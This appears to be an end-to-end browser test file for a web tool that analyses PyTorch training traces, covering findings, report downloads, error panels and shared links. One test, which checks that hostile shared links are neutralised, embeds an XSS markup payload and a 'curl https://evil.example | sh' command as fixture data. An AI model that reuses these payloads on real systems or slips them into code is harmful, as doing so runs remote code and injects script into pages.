// End-to-end: the built site (dist/) in headless Chromium, driven like a user.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { deflateSync, inflateSync } from 'node:zlib';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { basename, join } from 'node:path';
import { serve, launch, openPage, load, shownFindings, traceFiles, lacksTrace, SHOTS, SHARED_TRACES, ROOT, scratchDir } from './support.mjs';

const TTAP = join(ROOT, 'target/debug/ttap');
const TTAP_DEV = join(ROOT, 'target/debug/ttap-dev');

let site;
let browser;
let scratch;

before(async () => {
  await mkdir(SHOTS, { recursive: true });
  scratch = await scratchDir('ttap-e2e-');
  site = await serve();
  browser = await launch();
});

after(async () => {
  await browser?.close();
  await site?.close();
});

test('the sample trace is one click away and shows its findings, overview and tables', async () => {
  const { page, context, errors } = await openPage(browser, site.url);
  await page.screenshot({ path: join(SHOTS, 'welcome.png') });
  await load(page, () => page.click('#sample'));
  assert.deepEqual(await shownFindings(page), ['dataloader-bottleneck']);
  await page.screenshot({ path: join(SHOTS, 'findings-sample.png'), fullPage: true });

  await page.click('.tab:has-text("Overview")');
  assert.match(await page.locator('.facts').innerText(), /A100[\s\S]*6 \(5 steady, 1 warm-up\)/);
  assert.equal(await page.locator('.chart').count(), 3, 'step-time chart, window scores, GPU busy');
  // The window detector's strip: the stalled steps' data-loading windows are the darkest.
  const scores = await page.locator('.chart.strip rect.heat').evaluateAll((els) =>
    els.map((e) => [e.querySelector('title').textContent, Number(e.getAttribute('fill-opacity'))]));
  const flagged = scores.filter(([, p]) => p > 0.5).map(([t]) => t.split(':')[0]);
  assert.deepEqual(flagged, [12, 13, 14, 15].map((s) => `step ${s} data loading`));
  await page.screenshot({ path: join(SHOTS, 'overview-sample.png'), fullPage: true });

  await page.click('.tab:has-text("Operators")');
  const rows = page.locator('tbody tr');
  const all = await rows.count();
  await page.fill('.search', 'conv');
  const convs = await rows.locator('td.name').allTextContents();
  assert.ok(convs.length > 0 && convs.length < all, `${convs.length} of ${all}`);
  assert.ok(convs.every((n) => n.toLowerCase().includes('conv')));
  // Sort by calls, ascending then descending.
  await page.click('th:has-text("Calls") button');
  await page.click('th:has-text("Calls") button');
  assert.equal(await page.locator('th:has-text("Calls")').getAttribute('aria-sort'), 'ascending');
  await page.screenshot({ path: join(SHOTS, 'operators-sample.png') });
  assert.deepEqual(errors, []);
  await context.close();
});

test('the report downloads as JSON and as Markdown, and the JSON opens again', async () => {
  const { page, context } = await openPage(browser, site.url);
  await load(page, () => page.click('#sample'));
  const [json] = await Promise.all([page.waitForEvent('download'), page.click('.download-json')]);
  assert.equal(json.suggestedFilename(), 'resnet50-a100-dataloader.report.json');
  const report = JSON.parse(await readFile(await json.path(), 'utf8'));
  assert.equal(report.format, 'torchtraceap.report');
  assert.equal(report.version, 3);
  // The step's time split once: the parts sum to the mean steady step, and the finding's gate
  // and worst steps come with it.
  const split = report.split.reduce((sum, p) => sum + p.ms, 0);
  assert.ok(Math.abs(split - report.trace.mean_step_ms) < 1e-6 * report.trace.mean_step_ms, `${split} vs ${report.trace.mean_step_ms}`);
  assert.ok(report.findings[0].gate.held_steps * 2 >= report.findings[0].gate.steady_steps);
  assert.ok(report.findings[0].worst_steps.length > 0);
  assert.ok(report.windows.every((w) => typeof w.anomaly_probability === 'number'));
  assert.deepEqual(report.findings.map((f) => f.id), ['dataloader-bottleneck']);
  const [md] = await Promise.all([page.waitForEvent('download'), page.click('.download-md')]);
  assert.equal(md.suggestedFilename(), 'resnet50-a100-dataloader.report.md');
  assert.match(await readFile(await md.path(), 'utf8'), /DataLoader/);

  // The saved JSON opens again, as a report without its trace.
  const saved = join(scratch, 'resnet50-a100-dataloader.report.json');
  await json.saveAs(saved);
  await load(page, () => page.setInputFiles('#file-input', saved));
  assert.deepEqual(await shownFindings(page), ['dataloader-bottleneck']);
  assert.match(await page.locator('.report-only').innerText(), /trace itself is not included/);
  assert.equal(await page.locator('.tab:has-text("Kernels")').count(), 0);
  await page.click('.tab:has-text("Overview")');
  assert.match(await page.locator('.facts').innerText(), /A100[\s\S]*6 \(5 steady, 1 warm-up\)/);
  await page.screenshot({ path: join(SHOTS, 'saved-report.png'), fullPage: true });
  await context.close();
});

test('a trace made by the generator shows the anti-pattern injected in it; injected once, it is a note', async () => {
  // In most steady steps: a finding, with its gate and worst steps.
  const out = join(scratch, 'vit-h100-sync.pt.trace.json');
  const inject = [1, 2, 3, 4].flatMap((step) => ['--inject', `host-device-sync@${step}:0.8`]);
  const made = spawnSync(TTAP_DEV, ['synth', '--model', 'vit_b16', '--gpu', 'h100', ...inject, '--out', out]);
  assert.equal(made.status, 0, String(made.stderr));
  const { page, context } = await openPage(browser, site.url);
  await load(page, () => page.setInputFiles('#file-input', out));
  const ids = await shownFindings(page);
  assert.ok(ids.includes('host-device-sync'), `findings: ${ids}`);
  assert.match(await page.locator('#finding-host-device-sync .gate').innerText(), /holds in \d+ of \d+ steady steps/);
  assert.match(await page.locator('#finding-host-device-sync .worst-steps').innerText(), /^Worst steps: \d+ \(/);
  assert.match(await page.locator('.split').innerText(), /idle: synchronization/);
  await page.screenshot({ path: join(SHOTS, 'findings-gate-split.png'), fullPage: true });
  // In one step of five: not a finding, a note.
  const once = join(scratch, 'vit-h100-sync-once.pt.trace.json');
  const madeOnce = spawnSync(TTAP_DEV, ['synth', '--model', 'vit_b16', '--gpu', 'h100', '--inject', 'host-device-sync@2:0.8', '--out', once]);
  assert.equal(madeOnce.status, 0, String(madeOnce.stderr));
  await load(page, () => page.setInputFiles('#file-input', once));
  assert.ok(!(await shownFindings(page)).includes('host-device-sync'));
  assert.match(await page.locator('.notes').innerText(), /host-device-sync.*in 1 of \d+ steady steps/s);
  await context.close();
});

test('a broken file gets an error panel that says what was found, and the previous analysis stays', async () => {
  const notJson = join(scratch, 'notes.pt.trace.json');
  await writeFile(notJson, 'these are my notes, not a trace\n');
  const { page, context, errors } = await openPage(browser, site.url);
  await load(page, () => page.click('#sample'));
  await load(page, () => page.setInputFiles('#file-input', notJson));
  const panel = page.locator('.error-panel');
  assert.match(await panel.locator('h2').innerText(), /Could not read notes\.pt\.trace\.json/);
  assert.match(await panel.locator('.error-message').innerText(), /JSON/);
  assert.deepEqual(await shownFindings(page), ['dataloader-bottleneck'], 'the sample is still shown');
  await page.screenshot({ path: join(SHOTS, 'error-not-json.png') });
  assert.deepEqual(errors, []);
  await context.close();
});

test("a trace past the worker's memory limit (lowered here) gets a panel saying the limit and what to do; the previous analysis stays", async () => {
  const big = join(scratch, 'past-the-limit.pt.trace.json');
  const made = spawnSync(TTAP_DEV, ['synth', '--steps', '100', '--out', big]);
  assert.equal(made.status, 0, String(made.stderr));
  const { page, context, errors } = await openPage(browser, site.url);
  await load(page, () => page.click('#sample'));
  // The limit: the memory the sample's worker reached (a 1 MB trace); 60 MB of trace need more.
  const limit = Number(await page.locator('main').getAttribute('data-memory'));
  assert.ok(limit > 0 && limit < 256 * 2 ** 20, `the sample took ${limit} bytes`);
  await page.evaluate((bytes) => { window.ttapMemoryLimit = bytes; }, limit);
  await load(page, () => page.setInputFiles('#file-input', big));
  const panel = page.locator('.error-panel');
  assert.match(await panel.locator('h2').innerText(), /Could not read past-the-limit\.pt\.trace\.json/);
  const message = await panel.locator('.error-message').innerText();
  assert.match(message, /^past-the-limit\.pt\.trace\.json is too large to analyze in this browser tab: after reading [\d.]+ MiB of its 60\.0 MiB/);
  // The limit as the page rounds it (wasm memory grows by 64 KiB pages, so it can end in .x5
  // MiB, which Rust rounds to even and `toFixed` up).
  const shown = message.match(/past its limit of ([\d.]+) MiB \(a worker has at most 4 GiB/);
  assert.ok(shown && Math.abs(Number(shown[1]) - limit / 2 ** 20) <= 0.05, message);
  assert.match(message, /Reading stopped there and nothing else changed[\s\S]*ttap analyze past-the-limit\.pt\.trace\.json/);
  assert.deepEqual(await shownFindings(page), ['dataloader-bottleneck'], 'the sample is still shown');
  await page.screenshot({ path: join(SHOTS, 'error-memory-limit.png') });
  assert.deepEqual(errors, []);
  await context.close();
});

test('a long load can be cancelled, and the page keeps what it showed', async () => {
  // A large generated trace: long enough to cancel mid-way.
  const big = join(scratch, 'big.pt.trace.json');
  const made = spawnSync(TTAP_DEV, ['synth', '--model', 'resnet50', '--gpu', 'a100', '--steps', '400', '--out', big]);
  assert.equal(made.status, 0, String(made.stderr));
  const { page, context } = await openPage(browser, site.url);
  await load(page, () => page.click('#sample'));
  await page.setInputFiles('#file-input', big);
  await page.waitForSelector('.loading progress');
  await page.screenshot({ path: join(SHOTS, 'loading.png') });
  await page.click('button.cancel');
  assert.equal(await page.locator('.loading').count(), 0);
  assert.match(await page.locator('.notice').innerText(), /cancelled; the previous analysis is still shown/);
  assert.deepEqual(await shownFindings(page), ['dataloader-bottleneck']);
  // The page still works: the same file loads in full afterwards.
  await load(page, () => page.setInputFiles('#file-input', big));
  assert.equal(await page.locator('.error-panel').count(), 0);
  await context.close();
});

test('a shared link opens in a fresh browser without the trace; the trace brings the full view back', async () => {
  const sample = join(ROOT, 'www/samples/resnet50-a100-dataloader.pt.trace.json.gz');
  const a = await openPage(browser, site.url);
  await load(a.page, () => a.page.click('#sample'));
  await a.page.click('#finding-dataloader-bottleneck header');
  const before = a.requests.length;
  await a.page.click('.share-button');
  const link = await a.page.inputValue('#share-link');
  assert.match(await a.page.locator('.share-panel').innerText(), /Never in it: the trace's events/);
  await a.page.screenshot({ path: join(SHOTS, 'share-preview.png') });
  assert.equal(a.requests.length, before, 'sharing makes no request');
  assert.ok(link.startsWith(`${site.url}#ttap2.`), link);
  assert.ok(link.length - site.url.length < 8192, `${link.length} bytes`);
  await a.context.close();

  // Another browser context: nothing shared with the first but the link.
  const b = await openPage(browser, link);
  assert.deepEqual(await shownFindings(b.page), ['dataloader-bottleneck']);
  assert.match(await b.page.locator('.link-note').innerText(), /trace is not\s+included/);
  assert.match(await b.page.locator('#finding-dataloader-bottleneck').getAttribute('class'), /selected/);
  assert.equal(await b.page.locator('.tab:has-text("Kernels")').count(), 0);
  await b.page.screenshot({ path: join(SHOTS, 'shared-link-opened.png'), fullPage: true });
  assert.deepEqual(b.requests.filter((r) => !r.url.startsWith(site.url) || r.method !== 'GET'), []);
  await load(b.page, () => b.page.setInputFiles('#file-input', sample));
  assert.match(await b.page.locator('.notice').innerText(), /Full view restored/);
  assert.equal(await b.page.locator('.tab:has-text("Kernels")').count(), 1);
  assert.match(await b.page.locator('#finding-dataloader-bottleneck').getAttribute('class'), /selected/);
  await b.context.close();

  // The wrong trace is recognised as such.
  const wrong = join(scratch, 'other.pt.trace.json');
  assert.equal(spawnSync(TTAP_DEV, ['synth', '--model', 'resnet50', '--gpu', 't4', '--out', wrong]).status, 0);
  const c = await openPage(browser, link);
  await load(c.page, () => c.page.setInputFiles('#file-input', wrong));
  assert.match(await c.page.locator('.notice').innerText(), /not the trace the shared link was made from/);
  await c.context.close();
});

test('broken, newer and hostile links get a clear error, and no prose in a link is shown', async () => {
  const cases = [
    ['#ttap2.AAAA', /damaged/],
    ['#ttap9.eJwrSS0u0c1LLVcozs8FAB7iBKs', /newer/],
    ['#hello', /not a TorchTraceAP link|does not start/i],
  ];
  for (const [fragment, message] of cases) {
    const { page, context } = await openPage(browser, site.url + fragment);
    assert.match(await page.locator('.error-panel h2').innerText(), /Could not read the shared link/);
    assert.match(await page.locator('.error-panel .error-message').innerText(), message);
    await context.close();
  }
  // A format-1 link (the whole report) whose prose is markup: the page's own words are shown.
  const made = spawnSync(TTAP, ['share', join(ROOT, 'www/samples/resnet50-a100-dataloader.pt.trace.json.gz'), '--base-url', site.url]);
  assert.equal(made.status, 0, String(made.stderr));
  const fragment = String(made.stdout).trim().split('#')[1];
  const facts = JSON.parse(inflateSync(Buffer.from(fragment.slice('ttap2.'.length), 'base64url')));
  const markup = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>';
  const legacy = {
    format: 'torchtraceap.share', version: 1, fingerprint: facts.fingerprint,
    report: {
      format: 'torchtraceap.report', version: 2, exporter: markup, trace: facts.trace,
      findings: [{ id: facts.findings[0].id, title: markup, summary: markup, severity: 'high',
        impact_ms_per_step: 1, impact_pct_of_step: 30, impact_method: markup, confidence: 0.5,
        evidence: [], fix: markup, fix_snippet: 'import os; os.system("curl https://evil.example | sh")' }],
      steps: [], windows: [], unexplained: [],
    },
  };
  const hostile = `${site.url}#ttap1.${deflateSync(JSON.stringify(legacy)).toString('base64url')}`;
  const { page, context } = await openPage(browser, hostile);
  assert.equal(await page.locator('.finding h3').innerText(), 'The step waits for the DataLoader');
  assert.doesNotMatch(await page.locator('.analysis').innerText(), /evil\.example|<img|<script/);
  assert.equal(await page.locator('.finding img, .finding script').count(), 0);
  assert.equal(await page.evaluate(() => window.pwned), undefined);
  await context.close();
});

test('every shared trace reads as the CLI reads it: the same findings, or an error panel', async (t) => {
  if (lacksTrace(t, SHARED_TRACES)) return;
  const files = await traceFiles(SHARED_TRACES);
  const cli = spawnSync(TTAP, ['analyze', '--format', 'json', ...files], { maxBuffer: 1 << 30 });
  const reports = JSON.parse(String(cli.stdout));
  const native = new Map(reports.map((r) => [r.file, r.report.findings.map((f) => f.id)]));
  const cpuOnly = new Set(reports.filter((r) => r.report.trace.cpu_only).map((r) => r.file));
  const { page, context, errors } = await openPage(browser, site.url);
  await load(page, () => page.setInputFiles('#file-input', files), 600_000);
  const options = page.locator('.file-select option');
  assert.equal(await options.count(), files.length);
  let refused = 0;
  for (let i = 0; i < files.length; i++) {
    await page.selectOption('.file-select', { index: i });
    const shown = await shownFindings(page);
    const expected = native.get(files[i]) ?? null;
    assert.deepEqual(shown, expected, basename(files[i]));
    if (shown === null) refused += 1;
    if (cpuOnly.has(files[i])) {
      await page.click('.tab:has-text("Overview")');
      const devices = page.locator('.facts .fact', { hasText: 'Devices' }).locator('dd');
      assert.equal(await devices.innerText(), 'no GPU work: a CPU-only trace (findings weigh host time)', basename(files[i]));
      await page.screenshot({ path: join(SHOTS, 'overview-cpu-only.png') });
    }
    if (basename(files[i]).includes('alexnet')) {
      await page.screenshot({ path: join(SHOTS, 'findings-alexnet.png'), fullPage: true });
    }
  }
  assert.ok(refused < files.length / 4, `${refused} of ${files.length} refused`);
  assert.ok(cpuOnly.size >= 3, `the shared traces hold CPU-only captures (${cpuOnly.size})`);
  assert.deepEqual(errors, []);
  await context.close();
});

test('analysis makes no network request but for the site itself: no trace data leaves the page', async () => {
  const { page, context, requests } = await openPage(browser, site.url);
  await load(page, () => page.click('#sample'));
  await load(page, () => page.setInputFiles('#file-input', join(ROOT, 'www/samples/resnet50-a100-dataloader.pt.trace.json.gz')));
  for (const tab of ['Overview', 'Kernels', 'Operators', 'Findings']) await page.click(`.tab:has-text("${tab}")`);
  const offsite = requests.filter((r) => !r.url.startsWith(site.url));
  assert.deepEqual(offsite, [], 'requests to anywhere else');
  const withBody = requests.filter((r) => r.method !== 'GET' || r.body);
  assert.deepEqual(withBody, [], 'requests that carry data');
  const files = requests.map((r) => r.url.slice(site.url.length)).sort();
  // The page's files, and the ones its service worker keeps for offline use (www/sw.js).
  assert.deepEqual([...new Set(files)], [
    '', 'app.js', 'app_bg.wasm', 'index.html', 'models/base-set.bin.gz', 'offline.js',
    'samples/resnet50-a100-dataloader.pt.trace.json.gz', 'style.css', 'sw.js', 'worker.js',
    'worker_bg.wasm', 'worker_loader.js',
  ]);
  await context.close();
});
